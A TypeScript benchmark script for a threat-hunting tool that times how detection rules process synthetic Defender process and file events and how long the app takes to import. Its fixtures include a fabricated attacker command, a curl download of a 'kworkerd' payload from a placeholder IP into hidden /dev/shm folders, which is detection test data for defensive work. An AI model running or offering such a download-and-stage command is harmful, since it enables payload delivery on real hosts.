@@ -1,0 +1,300 @@
+/**
+ * `npm run bench:hunt`: the hunt from query result to verdict and alert, and the Functions app's import time.
+ * Not part of `npm test`.
+ *
+ *   npm run bench:hunt [-- --rows 5000 --imports 7]
+ *
+ * 1. Pipeline. A generated local workspace holds `rows` matching events per seed rule (DeviceProcessEvents for
+ *    shm-execution, DeviceFileEvents for shm-creation; 2 × rows result rows in all) in the window, over 64 samples
+ *    whose verdicts are stored (half match, half clean). The real plans (rules/ + kql/ on the defender target,
+ *    max_signals lifted so every row is acted on) run through runHunts with the local workspace engine and local
+ *    incidents, each variant in a fresh child process (its own peak RSS):
+ *      - gate/file: the rules' own gates (annotate, require): a verdict lookup per row, then alert or benign;
+ *        state in local files under os.tmpdir() (SHMHUNT_BENCH_TMP to move it, e.g. to /dev/shm);
+ *      - no-gate/file (peer): the same with `sample_gate.mode = none`: alert on behaviour, no verdict lookup;
+ *      - gate/memory, no-gate/memory: the same with an in-memory state store, i.e. the pipeline without file I/O.
+ *    Reported: the query alone (engine rows/s), the whole run (rows/s from query result to alert, query included),
+ *    the part after the query, and peak RSS.
+ * 2. Import. `npm run build`, then the median wall time of `node -e "import('./dist/functions/index.js')"` against
+ *    a bare @azure/functions app registering one HTTP function (peer), and `node -e 0`.
+ */
+import { spawnSync } from "node:child_process";
+import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
+import os from "node:os";
+import path from "node:path";
+import { fileURLToPath } from "node:url";
+import { HuntState } from "../src/hunt/hunt-state.js";
+import { LocalAlertWriter } from "../src/hunt/local-alerts.js";
+import { runHunts } from "../src/hunt/run.js";
+import type { HuntPlan, StoredVerdict } from "../src/hunt/types.js";
+import { loadRules } from "../src/rules/loader.js";
+import { exclusionWatchlists, LocalWorkspaceQueryRunner } from "../src/server/local-queries.js";
+import { kqlFilePlans } from "../src/server/plans.js";
+import type { StateKind, StateRecord, StateStore } from "../src/store/state-store.js";
+import { createStateStore } from "../src/store/storage-clients.js";
+
+const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "..");
+const args = process.argv.slice(2);
+const option = (name: string, fallback: number) => {
+  const i = args.indexOf(name);
+  const value = i >= 0 ? Number(args[i + 1]) : Number.NaN;
+  return Number.isFinite(value) && value > 0 ? value : fallback;
+};
+const rows = option("--rows", 5_000);
+const importRuns = option("--imports", 7);
+const SAMPLES = 64;
+const MIN = 60_000;
+
+/** The gate on or off (peer), with the local file state store or an in-memory one (the pipeline without I/O). */
+type Variant = "gate/file" | "no-gate/file" | "gate/memory" | "no-gate/memory";
+const VARIANTS: readonly Variant[] = ["gate/file", "no-gate/file", "gate/memory", "no-gate/memory"];
+
+/** Records as JSON text in a map: the StateStore contract without the file system (bench only). */
+class MemoryStateStore implements StateStore {
+  private readonly records = new Map<string, string>();
+  private id = (kind: StateKind, partition: string, key: string) => `${kind}\u0000${partition}\u0000${key}`;
+  async get<T>(kind: StateKind, partition: string, key: string): Promise<T | undefined> {
+    const text = this.records.get(this.id(kind, partition, key));
+    return text === undefined ? undefined : (JSON.parse(text) as T);
+  }
+  async create<T>(kind: StateKind, partition: string, key: string, value: T): Promise<boolean> {
+    const id = this.id(kind, partition, key);
+    if (this.records.has(id)) return false;
+    this.records.set(id, JSON.stringify(value));
+    return true;
+  }
+  async put<T>(kind: StateKind, partition: string, key: string, value: T): Promise<void> {
+    this.records.set(this.id(kind, partition, key), JSON.stringify(value));
+  }
+  async delete(kind: StateKind, partition: string, key: string): Promise<void> {
+    this.records.delete(this.id(kind, partition, key));
+  }
+  async list<T>(kind: StateKind, partition?: string): Promise<ReadonlyArray<StateRecord<T>>> {
+    const out: StateRecord<T>[] = [];
+    for (const [id, text] of this.records) {
+      const [k, p, key] = id.split("\u0000") as [string, string, string];
+      if (k === kind && (partition === undefined || p === partition))
+        out.push({ partition: p, key, value: JSON.parse(text) as T });
+    }
+    return out.sort((a, b) => (a.key < b.key ? -1 : a.key > b.key ? 1 : 0));
+  }
+}
+
+interface ChildReport {
+  readonly variant: Variant;
+  readonly rows: number;
+  readonly querySeconds: number;
+  readonly runSeconds: number;
+  readonly alerted: number;
+  readonly benign: number;
+  readonly peakRssMiB: number;
+}
+
+const sha = (i: number) => (i % SAMPLES).toString(16).padStart(2, "0").repeat(32);
+
+/** N matching events per seed rule, spread over the last 8 minutes before `now`. */
+function writeWorkspace(dir: string, n: number, now: number): void {
+  mkdirSync(dir, { recursive: true });
+  const time = (i: number) => new Date(now - MIN - Math.floor((i * 7 * MIN) / n)).toISOString();
+  const base = (i: number) => ({
+    Timestamp: time(i),
+    TimeGenerated: time(i),
+    DeviceId: `dev${i % 50}`,
+    DeviceName: `host-${i % 50}`,
+    ReportId: i,
+    SHA256: sha(i),
+  });
+  const processes: string[] = [];
+  const files: string[] = [];
+  for (let i = 0; i < n; i++) {
+    processes.push(
+      JSON.stringify({
+        ...base(i),
+        ActionType: "ProcessCreated",
+        AccountName: "root",
+        FolderPath: `/dev/shm/.x${i}/kworkerd`,
+        FileName: "kworkerd",
+        ProcessId: 10_000 + i,
+        ProcessCommandLine: `/dev/shm/.x${i}/kworkerd -d`,
+        InitiatingProcessCommandLine: "-bash",
+      }),
+    );
+    files.push(
+      JSON.stringify({
+        ...base(i),
+        ActionType: "FileCreated",
+        FolderPath: `/dev/shm/.x${i}/kworkerd`,
+        FileName: "kworkerd",
+        InitiatingProcessFileName: "curl",
+        InitiatingProcessId: 20_000 + i,
+        InitiatingProcessAccountName: "root",
+        InitiatingProcessCommandLine: "curl -so kworkerd http://203.0.113.7/k",
+      }),
+    );
+  }
+  writeFileSync(path.join(dir, "DeviceProcessEvents.ndjson"), `${processes.join("\n")}\n`);
+  writeFileSync(path.join(dir, "DeviceFileEvents.ndjson"), `${files.join("\n")}\n`);
+}
+
+/** One variant, in this (child) process: fresh state, stored verdicts, one forced run of every plan. */
+async function child(variant: Variant, n: number): Promise<ChildReport> {
+  const dir = mkdtempSync(
+    path.join(process.env.SHMHUNT_BENCH_TMP ?? os.tmpdir(), `shmhunt-bench-hunt-${variant.replace("/", "-")}-`),
+  );
+  try {
+    const now = Date.now();
+    const workspaceDir = path.join(dir, "workspace");
+    writeWorkspace(workspaceDir, n, now);
+    const state = new HuntState(
+      variant.endsWith("/memory")
+        ? new MemoryStateStore()
+        : await createStateStore({ kind: "local", dir: path.join(dir, "state") }),
+    );
+    const rulesDir = path.join(repoRoot, "rules");
+    const plans: HuntPlan[] = (await kqlFilePlans(rulesDir, path.join(repoRoot, "kql"), ["defender"])).map((p) => ({
+      ...p,
+      rule: {
+        ...p.rule,
+        maxSignals: Number.MAX_SAFE_INTEGER,
+        ...(variant.startsWith("no-gate") ? { gate: { ...p.rule.gate, mode: "none" as const } } : {}),
+      },
+    }));
+    const gateRule = plans.find((p) => p.rule.gate.yaraRules.length > 0)?.rule.gate.yaraRules[0] ?? "any";
+    for (let i = 0; i < SAMPLES; i++) {
+      const verdict: StoredVerdict = {
+        sha256: sha(i),
+        size: 16_000,
+        matches: i % 2 === 0 ? [{ rule: gateRule }] : [],
+        scannedAt: new Date(now).toISOString(),
+      };
+      await state.putVerdict(verdict);
+    }
+    const watchlists = exclusionWatchlists((await loadRules(rulesDir)).rules);
+    const queries = new LocalWorkspaceQueryRunner(workspaceDir, async () => watchlists);
+    const window = { start: new Date(now - 9 * MIN), end: new Date(now) };
+
+    let peak = process.memoryUsage().rss;
+    const sampler = setInterval(() => {
+      peak = Math.max(peak, process.memoryUsage().rss);
+    }, 20);
+    // The query alone (warm: Kusto.Language loaded by a first query), then the whole run, query included.
+    await queries.run(plans[0]!.query, window);
+    let started = performance.now();
+    let queried = 0;
+    for (const plan of plans) {
+      const outcome = await queries.run(plan.query, window);
+      if (!outcome.ok) throw new Error(outcome.error);
+      queried += outcome.rows.length;
+    }
+    const querySeconds = (performance.now() - started) / 1000;
+    started = performance.now();
+    const report = await runHunts(
+      plans,
+      { state, queries, alerts: new LocalAlertWriter(state), clock: () => new Date(now) },
+      {
+        force: true,
+      },
+    );
+    const runSeconds = (performance.now() - started) / 1000;
+    clearInterval(sampler);
+    const failed = report.runs.filter((r) => r.status !== "completed");
+    if (failed.length > 0) throw new Error(`hunt failed: ${failed.map((r) => r.error).join("; ")}`);
+    const total = report.runs.reduce((sum, r) => sum + r.counts.rows, 0);
+    if (total !== queried || total !== 2 * n) throw new Error(`expected ${2 * n} rows, the run saw ${total}`);
+    return {
+      variant,
+      rows: total,
+      querySeconds,
+      runSeconds,
+      alerted: report.runs.reduce((sum, r) => sum + r.counts.alerted, 0),
+      benign: report.runs.reduce((sum, r) => sum + r.counts.benign, 0),
+      peakRssMiB: Math.max(peak, process.resourceUsage().maxRSS * 1024) / 2 ** 20,
+    };
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+}
+
+function runChild(variant: Variant): ChildReport {
+  const result = spawnSync(
+    process.execPath,
+    [...process.execArgv, fileURLToPath(import.meta.url), "--child", variant, "--rows", String(rows)],
+    { cwd: repoRoot, encoding: "utf8", maxBuffer: 16 * 2 ** 20 },
+  );
+  if (result.status !== 0) throw new Error(`bench child ${variant} failed: ${result.stderr}`);
+  const line = result.stdout.trim().split("\n").pop() ?? "";
+  return JSON.parse(line) as ChildReport;
+}
+
+function median(values: readonly number[]): number {
+  const sorted = [...values].sort((a, b) => a - b);
+  const mid = Math.floor(sorted.length / 2);
+  return sorted.length % 2 ? sorted[mid]! : (sorted[mid - 1]! + sorted[mid]!) / 2;
+}
+
+/** Median wall time (ms) of a fresh `node -e <code>` in the repository. */
+function importTime(code: string): number {
+  const times: number[] = [];
+  for (let i = 0; i < importRuns; i++) {
+    const started = performance.now();
+    const result = spawnSync(process.execPath, ["-e", code], { cwd: repoRoot, encoding: "utf8" });
+    times.push(performance.now() - started);
+    if (result.status !== 0) throw new Error(`node -e ${code} failed: ${result.stderr}`);
+  }
+  return median(times);
+}
+
+const fmt = (n: number, digits = 0) =>
+  n.toLocaleString("en-US", { maximumFractionDigits: digits, minimumFractionDigits: digits });
+
+async function main(): Promise<void> {
+  const childAt = args.indexOf("--child");
+  if (childAt >= 0) {
+    process.stdout.write(`${JSON.stringify(await child(args[childAt + 1] as Variant, rows))}\n`);
+    return;
+  }
+
+  console.log(
+    `hunt pipeline: ${fmt(rows)} matching events per seed rule (defender), ${SAMPLES} samples with stored verdicts,`,
+  );
+  console.log("local workspace engine, local file state, local incidents; each variant in a fresh process\n");
+  const reports = VARIANTS.map(runChild);
+  console.log(
+    `${"variant".padEnd(15)} ${"rows".padStart(7)} ${"alerted".padStart(8)} ${"benign".padStart(7)} ${"query s".padStart(8)} ${"query rows/s".padStart(13)} ${"run s".padStart(7)} ${"rows/s".padStart(8)} ${"after-query rows/s".padStart(19)} ${"peak RSS".padStart(9)}`,
+  );
+  for (const r of reports) {
+    const afterQuery = r.rows / Math.max(r.runSeconds - r.querySeconds, 1e-9);
+    console.log(
+      `${r.variant.padEnd(15)} ${fmt(r.rows).padStart(7)} ${fmt(r.alerted).padStart(8)} ${fmt(r.benign).padStart(7)} ${fmt(r.querySeconds, 2).padStart(8)} ${fmt(r.rows / r.querySeconds).padStart(13)} ${fmt(r.runSeconds, 2).padStart(7)} ${fmt(r.rows / r.runSeconds).padStart(8)} ${fmt(afterQuery).padStart(19)} ${`${fmt(r.peakRssMiB)} MiB`.padStart(9)}`,
+    );
+  }
+  const rate = (v: Variant) => {
+    const r = reports.find((x) => x.variant === v)!;
+    return r.rows / r.runSeconds;
+  };
+  console.log(
+    `\ngate / no gate (rows/s of the run): file state ${fmt(rate("gate/file") / rate("no-gate/file"), 2)}x, memory state ${fmt(rate("gate/memory") / rate("no-gate/memory"), 2)}x`,
+  );
+  console.log(`file state / memory state (gate): ${fmt(rate("gate/file") / rate("gate/memory"), 2)}x`);
+
+  console.log("\nbuilding (npm run build) for the import timing …");
+  const build = spawnSync("npm", ["run", "build"], { cwd: repoRoot, encoding: "utf8" });
+  if (build.status !== 0) throw new Error(`npm run build failed: ${build.stdout}${build.stderr}`);
+  const app = importTime("import('./dist/functions/index.js')");
+  const bare = importTime(
+    "import('@azure/functions').then(({ app }) => app.http('health', { methods: ['GET'], authLevel: 'anonymous', handler: async () => ({ body: 'ok' }) }))",
+  );
+  const node = importTime("0");
+  console.log(`import time, median of ${importRuns} fresh processes (wall, process start included):`);
+  console.log(`  dist/functions/index.js (shmhunt app)     ${fmt(app)} ms`);
+  console.log(`  bare @azure/functions app (peer)          ${fmt(bare)} ms`);
+  console.log(`  node -e 0                                 ${fmt(node)} ms`);
+  console.log(
+    `  shmhunt over the bare app: ${fmt(app / bare, 2)}x (${fmt(app - bare)} ms more); over node alone: ${fmt(app - node)} ms vs ${fmt(bare - node)} ms`,
+  );
+}
+
+main().catch((error: unknown) => {
+  console.error(`bench:hunt: ${error instanceof Error ? error.message : String(error)}`);
+  process.exit(1);
+});
